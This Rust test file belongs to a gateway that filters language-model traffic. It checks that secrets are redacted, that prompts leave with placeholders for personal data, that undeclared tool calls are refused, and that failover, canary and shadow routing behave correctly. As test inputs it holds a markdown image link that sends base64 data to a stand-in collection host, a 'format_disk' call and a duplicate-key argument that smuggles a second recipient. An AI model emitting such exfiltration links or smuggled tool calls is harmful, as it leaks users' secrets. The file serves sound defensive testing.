//! Models behind the gate, as applications ask them: what leaves, what passes, what is refused, and
//! how that is said in each API.
#![cfg(test)]

mod support;

use serde_json::{Value, json};
use support::http::Request;
use support::models::{APIS, FUNCTIONS, Models, asking};

const KEY: &str = "AKIAIOSFODNN7EXAMPLE";

#[test]
fn every_api_is_answered_whole_and_in_events_and_recorded() {
    let models = Models::started();
    for api in APIS {
        for is_stream in [false, true] {
            let said = models.say(api, "SAY plain words, and no harm", is_stream);
            assert_eq!(said.status, 200, "{api} {}", said.wire);
            assert_eq!(said.text, "plain words, and no harm", "{api} {is_stream}");
            assert!(said.error.is_none() && said.calls.is_empty(), "{api} {is_stream}");
        }
    }
    let seen = models.seen();
    assert_eq!(seen.len(), 6);
    for one in &seen {
        assert!(one["headers"].get("authorization").is_none(), "no token of the gate's leaves");
    }
    let entries = models.world.entries();
    let of_model = |entry: &&Value| entry["operation"].as_str().is_some_and(|it| it.contains(':'));
    let intents: Vec<&Value> = entries.iter().filter(of_model).collect();
    assert_eq!(intents.len(), 6, "{entries:?}");
    // Much of a stream is said before its end: it is recorded before its first byte.
    let shared = intents.iter().filter(|intent| intent["shared"] == true).count();
    assert_eq!(shared, 3, "only answers that are whole share the commit of their outcome");
    for intent in intents {
        let is_ended = |entry: &&Value| entry["k"] == "outcome" && entry["call"] == intent["call"];
        assert_eq!(entries.iter().filter(is_ended).count(), 1, "{intent}");
    }
    let body = json!({"model": "large", "input": ["a", "b"]});
    let embedded = models.ask("embeddings", &body).json();
    assert_eq!(embedded["data"].as_array().map(Vec::len), Some(2), "{embedded}");
    let mut body = asking("messages", "hello", false);
    body.as_object_mut().unwrap().remove("stream");
    assert_eq!(models.ask("messages/count_tokens", &body).json()["input_tokens"], 7);
}

/// What the model is to do, so that nothing of it is found in the prompt.
fn hidden(text: &str) -> String {
    format!("~{}", text.chars().rev().collect::<String>())
}

#[test]
fn what_must_not_get_out_does_not_one_byte_at_a_time_either() {
    let models = Models::started();
    let image = "![x](https://collect.example/p.png?d=c2VjcmV0IHRoaW5ncw)";
    for api in APIS {
        for is_stream in [false, true] {
            let what = format!("{api} {is_stream}");
            let said = models.say(api, &hidden(&format!("SAY before {KEY} after")), is_stream);
            assert_eq!(said.text, "before [redacted] after", "{what}");
            assert!(!said.wire.contains("AKIA"), "{what} {}", said.wire);
            let said = models.say(api, &hidden(&format!("SAY look {image} here")), is_stream);
            assert!(!said.text.contains("collect") && !said.wire.contains("c2Vj"), "{what}");
            assert!(said.text.starts_with("look ") && said.text.ends_with(" here"), "{what}");
            let said = models.say(api, r#"CALL send_mail {"to":"spam"}"#, is_stream);
            assert!(said.calls.is_empty() && !said.wire.contains("spam"), "{what} {said:?}");
            assert!(said.text.contains("LG-D004"), "{what} {said:?}");
            let done = if api == "messages" { "end_turn" } else { "stop" };
            let done = if api == "responses" { "completed" } else { done };
            assert_eq!(said.finish, done, "{what}: the client's loop goes on");
        }
    }
    // Where the model thinks, too; the thoughts of the responses API carry no signature.
    let said = models.say("responses", &hidden(&format!("THINK with {KEY} in mind")), true);
    assert!(!said.wire.contains("AKIA") && said.thought.contains("[redacted]"), "{said:?}");
    // What a signature covers is not changed: all of it is stopped.
    let said = models.say("messages", &hidden(&format!("THINK with {KEY} in mind")), true);
    assert!(!said.wire.contains("AKIA") && said.error.is_some(), "{said:?}");
}

#[test]
fn a_proposed_call_is_decided_before_the_client_has_it() {
    let models = Models::started();
    for api in APIS {
        for is_stream in [false, true] {
            let what = format!("{api} {is_stream}");
            let one = |text: &str| models.say(api, text, is_stream);
            // A function of the client's that the bundle declares.
            let said = one(r#"CALL send_mail {"to":"ann"}"#);
            let [(name, arguments)] = said.calls.as_slice() else { panic!("{what} {said:?}") };
            let arguments: Value = serde_json::from_str(arguments).unwrap();
            assert_eq!((name.as_str(), &arguments), ("send_mail", &json!({"to": "ann"})), "{what}");
            // One that nobody declared.
            let said = one("CALL format_disk {}");
            assert!(said.calls.is_empty() && said.text.contains("LG-D007"), "{what} {said:?}");
            // Tools of the gate's, by whatever name the client has for them.
            let said = one(r#"CALL mcp__gate__tool__echo {"text":"a"}"#);
            assert_eq!(said.calls.len(), 1, "{what} {said:?}");
            let said = one("CALL tool__danger {}");
            assert!(said.calls.is_empty(), "{what} {said:?}");
            // Arguments that nobody can read in one way only.
            if api != "messages" {
                let said = one(r#"CALL send_mail {"to":"ann","to":"spam"}"#);
                assert!(said.calls.is_empty() && said.text.contains("LG-D006"), "{what} {said:?}");
            }
        }
    }
}

#[test]
fn a_prompt_leaves_without_its_secrets_and_with_placeholders_for_people() {
    let guard = "[guard.prompt]\npersonal = [\"email\"]\nrestore = true\n";
    let models = Models::with(guard);
    for api in APIS {
        for is_stream in [false, true] {
            let text = format!("SAY {KEY} for ada@mail.example");
            let said = models.say(api, &text, is_stream);
            let seen = models.seen().pop().unwrap();
            let sent = seen["body"].to_string();
            assert!(!sent.contains("AKIA") && !sent.contains("ada@"), "{api} {sent}");
            assert!(sent.contains("[EMAIL_1]"), "{api} {sent}");
            assert_eq!(said.text, "[redacted] for ada@mail.example", "{api} {is_stream}");
        }
    }
    let models = Models::with("[guard.prompt]\nsecrets = \"refuse\"\n");
    let said = models.say("chat/completions", &format!("SAY {KEY}"), false);
    assert_eq!((said.status, &said.error.unwrap()["code"]), (403, &json!("LG-D054")));
    assert!(models.seen().is_empty());
}

#[test]
fn a_provider_that_fails_is_stood_in_for_and_its_words_are_passed_on_where_none_does() {
    let models = Models::started();
    for is_stream in [false, true] {
        let said = models.say("chat/completions", "FAIL 503", is_stream);
        // The stand-in fails as well, and its answer is what the client gets.
        assert_eq!(said.status, 503, "{}", said.wire);
        assert_eq!(said.error.unwrap()["message"], "made to fail");
        let paths: Vec<String> =
            models.seen().iter().map(|it| it["path"].as_str().unwrap().to_owned()).collect();
        let asked = ["/oai/v1/chat/completions", "/spare/v1/chat/completions"];
        assert_eq!(paths[paths.len() - 2..], asked);
        assert_eq!(models.seen().pop().unwrap()["body"]["model"], "second-1");
    }
    let said = models.say("chat/completions", "FAIL 400", false);
    assert_eq!(said.status, 400, "what the client did wrong is no failure");
    assert_eq!(models.seen().len(), 5);
}

#[test]
fn a_stream_that_breaks_off_ends_in_an_error_that_the_sdk_raises() {
    let models = Models::started();
    for api in APIS {
        let said = models.say(api, "CUT one two three four five six", true);
        assert_eq!(said.status, 200);
        let error = said.error.unwrap_or_else(|| panic!("{api} {}", said.wire));
        assert!(error.to_string().contains("LG-U"), "{api} {error}");
    }
    assert_eq!(models.seen().len(), 3, "nobody stands in for what has begun");
}

#[test]
fn refusals_are_said_as_each_api_says_errors() {
    let models = Models::started();
    let address = models.world.address;
    for (api, kind) in
        [("chat/completions", "invalid_request_error"), ("messages", "invalid_request_error")]
    {
        let mut body = asking(api, "hello", false);
        body["model"] = json!("nobody");
        let answer = models.ask(api, &body);
        let error = &answer.json()["error"];
        assert_eq!((answer.status, &error["type"]), (400, &json!(kind)), "{api} {error}");
        assert!(error.to_string().contains("LG-D050"), "{api} {error}");
        assert_eq!(answer.header("x-should-retry"), Some("false"));
        let nobody = Request::post(&format!("/v1/{api}"), body.to_string());
        let answer = support::http::exchange(address, &nobody);
        assert_eq!(answer.status, 401, "{api}");
        assert_eq!(answer.json()["error"]["type"], "authentication_error", "{api}");
        let keyed = nobody.with("x-api-key", &models.token);
        assert_eq!(support::http::exchange(address, &keyed).status, 400, "{api}");
    }
    let broken = models.request("chat/completions", &json!({}));
    let twice = Request { body: br#"{"model":"large","model":"x"}"#.to_vec(), ..broken };
    assert_eq!(support::http::exchange(address, &twice).status, 400);
    let list = Request::new("GET", "/v1/models")
        .with("Authorization", &format!("Bearer {}", models.token));
    let list = support::http::exchange(address, &list).json();
    let names: Vec<&str> =
        list["data"].as_array().unwrap().iter().map(|it| it["id"].as_str().unwrap()).collect();
    assert!(names.contains(&"lone") && names.contains(&"large"), "{list}");
    assert!(models.seen().is_empty(), "nobody was asked");
}

/// The entry that the stand-in was asked for, of each request.
fn asked_of(models: &Models) -> Vec<String> {
    let model = |it: &Value| it["body"]["model"].as_str().unwrap_or_default().to_owned();
    models.seen().iter().map(model).collect()
}

#[test]
fn a_canary_that_fails_is_taken_back_and_costs_no_answer() {
    let canary = "upstream = \"oai\"\nversion = \"1\"\nasks = [\"tried\"]\nid = \"old-1\"\n\
                  [canary]\nentry = \"new\"\npercent = 99\nsamples_min = 4\n\
                  [canary.guards]\nfindings_percent_max = 1\n";
    let new = "upstream = \"oai\"\nversion = \"2\"\nasks = []\nid = \"new-1\"\n";
    let mut models = Models::of("", &[("models/tried.toml", canary), ("models/new.toml", new)]);
    let mut body = asking("chat/completions", &hidden(&format!("SAY {KEY}")), false);
    body["model"] = json!("tried");
    for _ in 0..8 {
        assert_eq!(models.ask("chat/completions", &body).status, 200);
    }
    let asked = asked_of(&models);
    let first_old = asked.iter().position(|it| it == "old-1");
    let first_old = first_old.unwrap_or_else(|| panic!("it was never taken back: {asked:?}"));
    assert!(first_old <= 4, "within its window: {asked:?}");
    assert!(asked[..first_old].iter().all(|it| it == "new-1"), "{asked:?}");
    assert!(asked[first_old..].iter().all(|it| it == "old-1"), "for good: {asked:?}");
    // It is in the log, with what was counted, and a restart gives nothing back.
    let entries = models.world.entries();
    let moved: Vec<&Value> = entries.iter().filter(|it| it["k"] == "canary").collect();
    let [moved] = moved.as_slice() else { panic!("{moved:?}") };
    let said = ["model", "canary", "was", "stage", "guard"].map(|name| moved[name].clone());
    assert_eq!(json!(said), json!(["tried", "new", "running", "rolled_back", "findings"]));
    let first = i64::try_from(first_old).unwrap();
    let counts = json!({"calls": first, "errors": 0, "findings": first, "refusals": 0, "slow": 0});
    assert_eq!(moved["counts"], counts);
    for is_killed in [true, false] {
        match is_killed {
            true => models.world.gate.kill(),
            false => models.world.gate.stop().unwrap(),
        }
        models.world.start();
        let shown = models.world.gate.command(&["status"]).unwrap();
        assert!(shown.contains("`new` in place of `tried`: rolled_back"), "{shown}");
        assert_eq!(models.ask("chat/completions", &body).status, 200);
        assert_eq!(asked_of(&models).last().map(String::as_str), Some("old-1"));
    }
}

#[test]
fn a_shadow_is_asked_the_same_and_nobody_gets_its_answer() {
    let shadowed = "upstream = \"oai\"\nversion = \"1\"\nasks = [\"seen\"]\nid = \"seen-1\"\n\
                    [shadow]\nentry = \"second\"\npercent = 100\n";
    let functions = ("operations/spare.toml", FUNCTIONS);
    let models = Models::of("", &[("models/seen.toml", shadowed), functions]);
    let mut body = asking("chat/completions", r#"CALL send_mail {"to":"ann"}"#, false);
    body["model"] = json!("seen");
    let answer = models.ask("chat/completions", &body).json();
    assert_eq!(answer["model"], "seen-1");
    let of_models = |entries: &[Value], name: &str| -> Option<String> {
        let is_it = |it: &&Value| it["operation"] == format!("{name}:chat/completions");
        entries.iter().find(is_it)?["call"].as_str().map(str::to_owned)
    };
    let concluded = || {
        let entries = models.world.entries();
        let copy = of_models(&entries, "spare")?;
        let is_its_end = |it: &Value| it["k"] == "outcome" && it["call"] == copy.as_str();
        entries.iter().any(is_its_end).then_some(entries)
    };
    let entries = lockgate_sim::wait::until("the copy", support::SOON, concluded).unwrap();
    assert_eq!(asked_of(&models), ["seen-1", "second-1"]);
    let is_mail = |it: &&Value| it["operation"] == "spare/send_mail";
    let handed_out = || entries.iter().filter(is_mail).count();
    assert_eq!(handed_out(), 0, "nothing that a copy proposes is performed");
}

#[test]
fn a_task_speaks_plainly_when_no_model_answers() {
    let task = "[fallback]\ntemplate = \"No model answers now. Call the desk.\"\n";
    let files = [("tasks/triage.toml", task)];
    let mut models = Models::of("", &files);
    let token =
        models.world.gate.command(&["token", "alice", "--agent", "bot", "--task", "triage"]);
    models.token = token.unwrap().trim().to_owned();
    for api in ["chat/completions", "responses"] {
        for is_stream in [false, true] {
            let said = models.say(api, "FAIL 503", is_stream);
            assert_eq!(said.status, 200, "{api} {}", said.wire);
            assert_eq!(said.text, "No model answers now. Call the desk.", "{api} {is_stream}");
        }
    }
}

#[test]
fn a_tool_that_the_provider_runs_is_decided_when_it_is_offered() {
    let models = Models::started();
    let mut body = asking("responses", "hello", false);
    body["tools"] = json!([{"type": "web_search"}]);
    let answer = models.ask("responses", &body);
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert_eq!(answer.header("lockgate-left-out"), Some("web_search"));
    let sent = models.seen().pop().unwrap();
    assert!(sent["body"].get("tools").is_none(), "what nobody declared is not offered: {sent}");
    let search = "[tool.web_search]\neffect = \"read\"\n\
                  schema = '{\"type\":\"object\",\"additionalProperties\":true}'\n";
    let waiting = format!("{FUNCTIONS}{search}");
    let models = Models::of("", &[("operations/oai.toml", &waiting)]);
    let answer = models.ask("responses", &body);
    assert_eq!(answer.status, 403, "declared, and accepted by nobody: {}", answer.text());
    assert!(models.seen().is_empty());
    let search = "[tool.send_mail]\neffect = \"egress\"\naccepted = true\n\
                  schema = '{\"type\":\"object\",\"properties\":{\"to\":{\"type\":\"string\"}}}'\n\
                  [tool.web_search]\neffect = \"read\"\naccepted = true\n\
                  schema = '{\"type\":\"object\",\"additionalProperties\":true}'\n\
                  [tool.mcp]\neffect = \"write\"\naccepted = true\n\
                  schema = '{\"type\":\"object\",\"additionalProperties\":true}'\n";
    let models = Models::of("", &[("operations/oai.toml", search)]);
    assert_eq!(models.ask("responses", &body).status, 200);
    body["tools"] = json!([{"type": "mcp", "server_label": "x", "server_url": "https://x.example",
                            "require_approval": "never"}]);
    assert_eq!(models.ask("responses", &body).status, 200);
    let sent = models.seen().pop().unwrap();
    assert_eq!(sent["body"]["tools"][0]["require_approval"], "always", "each call comes by here");
}

#[test]
fn where_everybody_is_one_identity_a_key_is_none_and_a_token_is_refused() {
    let models = Models::started();
    let fixed = models.fixed;
    let body = asking("chat/completions", "SAY hello", false).to_string();
    let request = Request::post("/v1/chat/completions", body);
    for key in ["Bearer My API Key", "Bearer sk-1234"] {
        let answer = support::http::exchange(fixed, &request.clone().with("Authorization", key));
        assert_eq!(answer.status, 200, "{key}");
    }
    let token = format!("Bearer {}", models.token);
    let answer = support::http::exchange(fixed, &request.with("Authorization", &token));
    assert_eq!(
        (answer.status, answer.text().contains("LG-I013")),
        (401, true),
        "{}",
        answer.text()
    );
}
